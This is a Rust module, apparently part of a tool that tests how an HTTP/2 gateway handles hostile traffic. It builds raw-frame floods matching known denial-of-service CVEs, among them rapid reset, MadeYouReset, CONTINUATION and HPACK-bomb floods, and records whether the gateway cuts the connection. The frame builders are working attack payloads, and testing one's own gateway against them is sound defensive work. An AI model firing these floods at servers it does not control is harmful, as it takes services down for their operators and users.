//! Floods: one small thing that costs the other side more than it costs us, as often as the other side lets us.

use std::{io, time::Duration};

use tokio::{
    io::AsyncWriteExt as _,
    time::{Instant, timeout},
};

use super::{
    Target,
    http2::{
        CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RESET,
        SETTINGS, WINDOW, block, frame, headers, plain, read_frame,
    },
};

/// One flood.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// What it is called.
    pub name: &'static str,
    /// Whether the gateway must end the connection before all of it is sent.
    pub is_cut: bool,
    prelude: fn(&str) -> Vec<u8>,
    round: fn(u32, &str) -> Vec<u8>,
}

/// What became of a flood.
#[derive(Clone, Copy, Debug)]
pub struct Flooded {
    /// How many rounds of it were sent.
    pub sent: u32,
    /// How many rounds there were to send.
    pub of: u32,
    /// Whether the gateway ended the connection.
    pub ended: bool,
    /// How many frames the gateway sent.
    pub received: u32,
    /// How long it went on.
    pub took: Duration,
}

/// Every flood.
pub const FLOODS: &[Flood] = &[
    Flood { name: "rapid reset (CVE-2023-44487)", is_cut: true, prelude: nothing, round: rapid_reset },
    Flood {
        name: "resets by the gateway (CVE-2025-8671)",
        is_cut: true,
        prelude: nothing,
        round: made_you_reset,
    },
    Flood {
        name: "continuation frames (CVE-2024-27316)",
        is_cut: true,
        prelude: open_headers,
        round: continuation,
    },
    Flood {
        name: "empty continuation frames",
        is_cut: true,
        prelude: open_headers,
        round: empty_continuation,
    },
    Flood {
        name: "headers that unfold (CVE-2016-6581)",
        is_cut: false,
        prelude: large_entry,
        round: unfolding,
    },
    Flood { name: "streams past the limit", is_cut: true, prelude: nothing, round: open_stream },
    Flood { name: "empty data frames (CVE-2019-9518)", is_cut: true, prelude: open_body, round: empty_data },
    Flood { name: "settings (CVE-2019-9515)", is_cut: false, prelude: nothing, round: settings },
    Flood { name: "pings (CVE-2019-9512)", is_cut: false, prelude: nothing, round: ping },
    Flood { name: "priorities (CVE-2019-9513)", is_cut: false, prelude: nothing, round: priority },
    Flood { name: "leave to send nothing", is_cut: false, prelude: nothing, round: window },
];

impl Flood {
    /// Sends up to `rounds` of it over one connection, with `key` where a request is made.
    ///
    /// # Errors
    /// Those of the connection and its handshake.
    pub async fn run(&self, target: &Target, key: &str, rounds: u32) -> io::Result<Flooded> {
        let Connection { mut reader, mut writer } = Connection::open(target, &[]).await?;
        let since = Instant::now();
        let reading = tokio::spawn(async move {
            let mut received = 0;
            while let Ok(frame) = read_frame(&mut reader).await {
                received += 1;
                if frame.kind == GOAWAY {
                    return (received, true);
                }
            }
            (received, true)
        });
        let mut sent = 0;
        let writing = async {
            writer.write_all(&(self.prelude)(key)).await?;
            while sent < rounds && !reading.is_finished() {
                let batch: Vec<u8> =
                    (sent..rounds.min(sent + BATCH)).flat_map(|round| (self.round)(round, key)).collect();
                writer.write_all(&batch).await?;
                writer.flush().await?;
                sent = rounds.min(sent + BATCH);
            }
            io::Result::Ok(())
        };
        // Who no longer takes anything has ended it, too.
        drop(timeout(LONGEST, writing).await);
        let (received, ended) = match timeout(LAST_WORDS, reading).await {
            Ok(read) => read.unwrap_or((0, true)),
            Err(_) => (0, false),
        };
        Ok(Flooded { sent, of: rounds, ended, received, took: since.elapsed() })
    }
}

fn nothing(_: &str) -> Vec<u8> {
    Vec::new()
}

/// Streams of clients have odd numbers.
fn stream(round: u32) -> u32 {
    round * 2 + 1
}

fn rapid_reset(round: u32, key: &str) -> Vec<u8> {
    let cancel = frame(RESET, 0, stream(round), &8_u32.to_be_bytes());
    [headers(stream(round), &plain(Some(key)), true), cancel].concat()
}

/// Leave to send zero bytes more is an error of the stream, for which the gateway resets it.
fn made_you_reset(round: u32, key: &str) -> Vec<u8> {
    let nothing = frame(WINDOW, 0, stream(round), &0_u32.to_be_bytes());
    [headers(stream(round), &plain(Some(key)), false), nothing].concat()
}

fn open_headers(_: &str) -> Vec<u8> {
    frame(HEADERS, 0, 1, &block(&plain(None)))
}

fn continuation(round: u32, _: &str) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &block(&[(format!("x-{round}").into_bytes(), vec![b'a'; 32])]))
}

fn empty_continuation(_: u32, _: &str) -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &[])
}

/// A large header into the table of the connection, which later headers name by one byte each.
fn large_entry(_: &str) -> Vec<u8> {
    let value = vec![b'a'; 3_900];
    let mut entry = vec![0x40, 1, b'x', 127];
    entry.extend([
        0x80 | u8::try_from((3_900 - 127) % 128).unwrap_or_default(),
        u8::try_from((3_900 - 127) / 128).unwrap_or_default(),
    ]);
    entry.extend(value);
    let list = [block(&plain(None)), entry].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, 1, &list)
}

fn unfolding(round: u32, _: &str) -> Vec<u8> {
    let list = [block(&plain(None)), vec![0x80 | 62; 4_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, stream(round + 1), &list)
}

fn open_stream(round: u32, key: &str) -> Vec<u8> {
    headers(stream(round), &plain(Some(key)), false)
}

fn open_body(key: &str) -> Vec<u8> {
    headers(1, &plain(Some(key)), false)
}

fn empty_data(_: u32, _: &str) -> Vec<u8> {
    frame(DATA, 0, 1, &[])
}

fn settings(_: u32, _: &str) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])
}

fn ping(round: u32, _: &str) -> Vec<u8> {
    frame(PING, 0, 0, &u64::from(round).to_be_bytes())
}

fn priority(round: u32, _: &str) -> Vec<u8> {
    frame(PRIORITY, 0, stream(round % 1_000), &[0, 0, 0, 0, 16])
}

fn window(_: u32, _: &str) -> Vec<u8> {
    frame(WINDOW, 0, 0, &1_u32.to_be_bytes())
}

/// Rounds that are written at once.
const BATCH: u32 = 50;
/// Longer than any flood needs.
const LONGEST: Duration = Duration::from_secs(30);
/// How long the gateway may take to say that it is enough.
const LAST_WORDS: Duration = Duration::from_secs(2);
